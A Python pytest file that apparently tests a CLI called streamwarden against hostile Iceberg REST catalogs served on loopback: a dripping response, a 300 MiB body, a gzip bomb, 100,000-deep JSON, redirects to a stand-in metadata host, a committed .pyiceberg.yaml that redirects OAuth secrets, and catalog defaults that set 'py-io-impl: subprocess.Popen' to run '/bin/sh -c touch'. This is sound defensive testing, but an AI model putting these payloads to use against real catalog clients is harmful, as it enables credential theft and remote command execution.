"""A hostile Iceberg REST catalog, through the real CLI: PyIceberg's session had no deadline, no
cap and followed redirects. A loopback stand-in (a real REST catalog cannot be made to misbehave)
drips its answer, answers hundreds of MiB (plain and as a gzip bomb), nests JSON 100,000 deep or
redirects to another host (a cloud metadata address, here 127.0.0.2). Each time the check fails
closed (SW-FACT-001) with a message that says which bound held, in bounded time and memory, and
the bearer token is neither followed to the other host nor printed."""

from __future__ import annotations

import json
import socket
import threading
import time
import zlib
from collections.abc import Iterator
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest
import yaml
from tests.acceptance.test_hostile_servers import assert_no_secret
from tests.cli import Proc, sw
from tests.iceberg.test_hostile_catalogs import CONTRACT  # the one-table contract the hostile catalogs serve

pytest.importorskip("pyiceberg", reason="the iceberg extra is not installed")

TOKEN = "rest-tok-Hq27LmZ0pX93vBn4"
HUGE = 300 * 1024 * 1024  # far more than the 64 MiB cap


@cache
def gzip_bomb() -> bytes:
    """A gzip body that inflates to 512 MiB of JSON (about 0.5 MiB sent)."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    parts = [deflate.compress(b'{"defaults": {"x": "')]
    block = b"0" * (1024 * 1024)
    parts += [deflate.compress(block) for _ in range(512)]
    parts += [deflate.compress(b'"}, "overrides": {}}'), deflate.flush()]
    return b"".join(parts)


class _Hostile(BaseHTTPRequestHandler):
    """The first path segment chooses the misbehaviour; ``sent`` counts the body bytes written."""

    sent: ClassVar[dict[str, int]] = {}
    redirect_to: ClassVar[str] = ""

    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        mode = self.path.strip("/").split("/")[0]
        if mode == "drip":
            self._drip()
        elif mode == "huge":
            self._huge()
        elif mode == "gzip":
            self._send(200, gzip_bomb(), {"Content-Encoding": "gzip"})
        elif mode == "deep":
            self._send(200, b'{"defaults": ' + b"[" * 100_000 + b"]" * 100_000 + b', "overrides": {}}')
        elif mode == "redirect":
            self._send(302, b"", {"Location": f"{self.redirect_to}/v1/config"})
        else:
            self._send(404, json.dumps({"error": {"message": "no", "type": "NotFound", "code": 404}}).encode())

    def _send(self, status: int, body: bytes, headers: dict[str, str] | None = None) -> None:
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(body)

    def _drip(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", "100000")
        self.end_headers()
        try:
            for _ in range(600):  # one byte every 0.2 s: 120 s if nothing ends it
                self.wfile.write(b" ")
                self.wfile.flush()
                time.sleep(0.2)
        except OSError:
            pass

    def _huge(self) -> None:
        """A close-delimited body (no length announced): only counting the bytes can stop it."""
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Connection", "close")
        self.end_headers()
        chunk = b"a" * (1024 * 1024)
        sent = 0
        try:
            self.wfile.write(b'{"defaults": {"x": "')
            while sent < HUGE:
                self.wfile.write(chunk)
                sent += len(chunk)
                self.sent["huge"] = sent
            self.wfile.write(b'"}, "overrides": {}}')
        except OSError:
            pass


class _MetadataService(BaseHTTPRequestHandler):
    """What a redirect would reach: records every request it gets."""

    seen: ClassVar[list[dict[str, str]]] = []

    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        self.seen.append(dict(self.headers))
        body = json.dumps({"defaults": {"AccessKeyId": "stolen"}, "overrides": {}}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def _serve(handler: type[BaseHTTPRequestHandler], host: str) -> Iterator[str]:
    server = ThreadingHTTPServer((host, 0), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield f"http://{host}:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def catalog_url() -> Iterator[str]:
    yield from _serve(_Hostile, "127.0.0.1")


@pytest.fixture
def metadata_url() -> Iterator[str]:
    try:
        socket.create_server(("127.0.0.2", 0)).close()
    except OSError:
        pytest.skip("127.0.0.2 cannot be bound here")
    _MetadataService.seen.clear()
    yield from _serve(_MetadataService, "127.0.0.2")


def check(tmp_path: Path, uri: str, timeout: float = 60) -> tuple[Proc, str]:
    (tmp_path / "contracts").mkdir(exist_ok=True)
    (tmp_path / "contracts" / "orders.yaml").write_text(CONTRACT, encoding="utf-8")
    lake = {"type": "rest", "uri": uri, "token": "${ICEBERG_TOKEN}"}
    config = {
        "contracts": ["contracts/*.yaml"],
        "environments": {"prod": {"iceberg": {"catalogs": {"lake": lake}, "timeout": "2s"}}},
    }
    (tmp_path / "streamwarden.yaml").write_text(yaml.safe_dump(config), encoding="utf-8")
    p = sw("check", "--env", "prod", "--format", "json", cwd=tmp_path, env={"ICEBERG_TOKEN": TOKEN}, timeout=timeout)
    assert p.code == 1, p
    assert_no_secret(p.output, TOKEN)
    found = [f["message"] for f in p.json()["findings"] if f["rule"] == "SW-FACT-001"]
    assert found, p
    return p, str(found[0])


def test_a_dripping_catalog_is_cut_at_the_deadline(tmp_path: Path, catalog_url: str) -> None:
    """One byte every 0.2 s of an announced 100,000: PyIceberg waited for all of them (5.5 hours);
    the 2 s deadline covers the whole answer, not each read. (The subprocess limit only keeps a
    hang from stalling the suite; the assertion is on the message.)"""
    _, message = check(tmp_path, f"{catalog_url}/drip", timeout=40)
    assert "catalog 'lake' could not be opened" in message
    assert "no whole answer from" in message and "within 2s" in message, message


def test_a_huge_answer_is_refused_at_the_cap(tmp_path: Path, catalog_url: str) -> None:
    """300 MiB with no length announced: all of it was read into memory; now reading stops after
    64 MiB, and the server could not write much more than that (socket buffers)."""
    _, message = check(tmp_path, f"{catalog_url}/huge")
    assert "answered more than 64 MiB; refusing to read it" in message, message
    assert _Hostile.sent.get("huge", 0) < 128 * 1024 * 1024, _Hostile.sent


def test_a_gzip_bomb_is_refused_at_the_cap(tmp_path: Path, catalog_url: str) -> None:
    """0.5 MiB sent with Content-Encoding: gzip, 512 MiB once inflated: requests inflated it all."""
    gzip_bomb()  # made before the check: the stand-in answers at once
    _, message = check(tmp_path, f"{catalog_url}/gzip")
    assert "inflates to more than 64 MiB; refusing to read it" in message, message


def test_json_nested_100000_deep_is_refused(tmp_path: Path, catalog_url: str) -> None:
    _, message = check(tmp_path, f"{catalog_url}/deep")
    assert "answered JSON nested more than 256 levels deep" in message, message


def test_a_redirect_to_another_host_is_not_followed(tmp_path: Path, catalog_url: str, metadata_url: str) -> None:
    """A 302 to another address (a cloud metadata service's, in real life): requests followed it
    and PyIceberg took that service's answer as the catalog's configuration."""
    _Hostile.redirect_to = metadata_url
    _, message = check(tmp_path, f"{catalog_url}/redirect")
    assert "answered HTTP 302, a redirect to" in message and "follows no redirect" in message, message
    assert _MetadataService.seen == [], _MetadataService.seen


# -- what a pull request or a catalog server may choose: neither where the secret goes nor code --
SECRET = "cs-Vb83NmQ1zX6wL0pR5tY9"
MARKER = "streamwarden-ran-this"
METADATA = {
    "format-version": 2,
    "table-uuid": "9c12d441-03fe-4693-9a96-a0705ddf69c1",
    "location": "file:///nowhere/sales/orders",
    "last-sequence-number": 0,
    "last-updated-ms": 1700000000000,
    "last-column-id": 1,
    "schemas": [
        {"type": "struct", "schema-id": 0, "fields": [{"id": 1, "name": "id", "required": False, "type": "long"}]}
    ],
    "current-schema-id": 0,
    "partition-specs": [{"spec-id": 0, "fields": []}],
    "default-spec-id": 0,
    "last-partition-id": 999,
    "sort-orders": [{"order-id": 0, "fields": []}],
    "default-sort-order-id": 0,
}


class _Catalog(BaseHTTPRequestHandler):
    """A REST catalog that grants any token, and whose configuration defaults are ``defaults``;
    ``sales.orders`` exists."""

    defaults: ClassVar[dict[str, str]] = {}
    overrides: ClassVar[dict[str, str]] = {}

    def log_message(self, *args: Any) -> None:
        pass

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self._json({"access_token": "granted-token-1234567890", "token_type": "bearer", "expires_in": 3600})

    def do_GET(self) -> None:
        if self.path.startswith("/v1/config"):
            self._json({"defaults": self.defaults, "overrides": self.overrides})
        elif self.path.startswith("/v1/namespaces/sales/tables/orders"):
            location = "file:///nowhere/sales/orders/metadata/00000-a.metadata.json"
            self._json({"metadata-location": location, "metadata": METADATA, "config": {}})
        else:
            self._json({"error": {"message": "no", "type": "NoSuchTableException", "code": 404}}, 404)

    def _json(self, doc: Any, status: int = 200) -> None:
        body = json.dumps(doc).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class _Thief(BaseHTTPRequestHandler):
    """Another host: records what is posted to it (an OAuth token endpoint) and the credentials
    a catalog request brings."""

    posted: ClassVar[list[bytes]] = []

    def log_message(self, *args: Any) -> None:
        pass

    def do_POST(self) -> None:
        self.posted.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
        self.send_response(401)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def do_GET(self) -> None:
        self.posted.append(f"GET {self.path} {self.headers.get('Authorization')}".encode())
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()


@pytest.fixture
def good_catalog() -> Iterator[str]:
    _Catalog.defaults = {}
    _Catalog.overrides = {}
    yield from _serve(_Catalog, "127.0.0.1")


@pytest.fixture
def thief_url() -> Iterator[str]:
    try:
        socket.create_server(("127.0.0.2", 0)).close()
    except OSError:
        pytest.skip("127.0.0.2 cannot be bound here")
    _Thief.posted.clear()
    yield from _serve(_Thief, "127.0.0.2")


def test_a_pyiceberg_file_in_the_pull_request_cannot_send_the_client_secret_elsewhere(
    tmp_path: Path, good_catalog: str, thief_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """PyIceberg reads ``.pyiceberg.yaml`` from the current directory when neither
    ``$PYICEBERG_HOME`` nor the home directory has one, and adds its keys to the catalog's: a pull
    request that committed one with ``oauth2-server-uri`` got the configured client secret posted
    to its server, by its own required check."""
    from tests.gitrepo import Repo

    home = tmp_path / "home"  # no .pyiceberg.yaml of the person running the check
    home.mkdir()
    repo = Repo(tmp_path / "repo")
    repo.write("contracts/orders.yaml", CONTRACT)
    lake = {"type": "rest", "uri": good_catalog, "credential": "${ICEBERG_CREDENTIAL}"}
    config = {"contracts": ["contracts/*.yaml"], "environments": {"prod": {"iceberg": {"catalogs": {"lake": lake}}}}}
    repo.write("streamwarden.yaml", yaml.safe_dump(config))
    repo.commit("base")
    repo.branch("pr")
    repo.write(".pyiceberg.yaml", f"catalog:\n  lake:\n    oauth2-server-uri: {thief_url}/v1/oauth/tokens\n")
    repo.commit("a convenience for local runs")
    env = {"ICEBERG_CREDENTIAL": f"client-id:{SECRET}", "HOME": str(home), "PYICEBERG_HOME": ""}
    p = sw("check", "--base", "main", "--env", "prod", "--format", "json", cwd=repo.path, env=env)
    assert p.code in (0, 1), p
    assert_no_secret(p.output, SECRET)
    assert _Thief.posted == [], _Thief.posted
    assert not [f for f in p.json()["findings"] if f["rule"] == "SW-FACT-001"], p  # the real catalog was read


def test_a_catalog_server_cannot_choose_a_class_to_run(tmp_path: Path, good_catalog: str) -> None:
    """The catalog's ``/v1/config`` defaults come before the configured properties and the FileIO
    is called with all of them: ``py-io-impl: subprocess.Popen`` with the defaults
    ``/bin/sh``, ``-c``, ``<command>`` ran the command on the CI runner."""
    marker = tmp_path / MARKER
    _Catalog.defaults = {"py-io-impl": "subprocess.Popen", "/bin/sh": "", "-c": "", f"touch {marker}": ""}
    (tmp_path / "contracts").mkdir()
    (tmp_path / "contracts" / "orders.yaml").write_text(CONTRACT, encoding="utf-8")
    lake = {"type": "rest", "uri": good_catalog, "token": "${ICEBERG_TOKEN}"}
    config = {"contracts": ["contracts/*.yaml"], "environments": {"prod": {"iceberg": {"catalogs": {"lake": lake}}}}}
    (tmp_path / "streamwarden.yaml").write_text(yaml.safe_dump(config), encoding="utf-8")
    p = sw("check", "--env", "prod", "--format", "json", cwd=tmp_path, env={"ICEBERG_TOKEN": TOKEN})
    time.sleep(0.5)  # a process Popen started would have touched it by now
    assert not marker.exists(), p
    assert p.code == 1, p
    found = [f["message"] for f in p.json()["findings"] if f["rule"] == "SW-FACT-001"]
    assert found and "py-io-impl names the Python class 'subprocess.Popen'" in found[0], p


@pytest.mark.parametrize(("override", "lake"), [("uri", "token"), ("oauth2-server-uri", "credential")])
def test_a_catalogs_answer_cannot_send_the_credentials_to_another_host(
    tmp_path: Path, good_catalog: str, thief_url: str, override: str, lake: str
) -> None:
    """``/v1/config`` overrides come after the configured properties: ``uri`` sent every later
    request, with the bearer token, to the host the server named; ``oauth2-server-uri`` got the
    client secret posted there. A request goes only where streamwarden.yaml points."""
    _Catalog.overrides = {override: f"{thief_url}/v1/oauth/tokens" if override != "uri" else thief_url}
    (tmp_path / "contracts").mkdir()
    (tmp_path / "contracts" / "orders.yaml").write_text(CONTRACT, encoding="utf-8")
    props = {"type": "rest", "uri": good_catalog, lake: "${ICEBERG_SECRET}"}
    config = {"contracts": ["contracts/*.yaml"], "environments": {"prod": {"iceberg": {"catalogs": {"lake": props}}}}}
    (tmp_path / "streamwarden.yaml").write_text(yaml.safe_dump(config), encoding="utf-8")
    secret = f"client-id:{SECRET}" if lake == "credential" else TOKEN
    p = sw("check", "--env", "prod", "--format", "json", cwd=tmp_path, env={"ICEBERG_SECRET": secret})
    assert p.code == 1, p
    assert_no_secret(p.output, SECRET, TOKEN)
    assert _Thief.posted == [], _Thief.posted
    found = [f["message"] for f in p.json()["findings"] if f["rule"] == "SW-FACT-001"]
    assert found and "which is not where its configuration (uri, oauth2-server-uri) points" in found[0], p
